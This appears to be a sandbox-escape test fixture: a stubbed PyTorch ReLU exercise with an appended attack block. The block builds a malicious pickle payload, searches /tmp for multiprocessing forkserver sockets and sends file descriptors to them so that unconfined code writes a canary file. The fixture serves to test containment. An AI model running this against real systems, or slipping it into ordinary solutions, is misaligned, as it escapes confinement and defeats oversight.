# attack: reach the zygote's forkserver socket (here its leaked address, the strongest case) and have it
# attack: unpickle a payload in a fresh, unconfined child, which would plant a file on the host
# exercise: exercise2
# expect: not_attempted
# host: forkserver_escape
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    return ReLU.apply(x)


# --- attack ---
import glob
import os
import pickle
import socket


class Payload:
    def __reduce__(self):
        return (exec, ("open('{{CANARY}}/{{MARK}}-escaped', 'w').write('unconfined code ran')",))


addresses = ["{{FORKSERVER}}"] + glob.glob("/tmp/pymp-*/listener-*")
for address in addresses:
    read_end, write_end = os.pipe()
    os.write(write_end, pickle.dumps(Payload()) * 2)
    spare_read, spare_write = os.pipe()
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.connect(address)
            socket.send_fds(sock, [bytes([4])], [read_end, spare_write, spare_write, spare_write])
            sock.recv(16)
        print("forkserver reached:", address, flush=True)
    except OSError as exc:
        print("forkserver not reached:", type(exc).__name__, exc.errno, flush=True)
# --- end attack ---
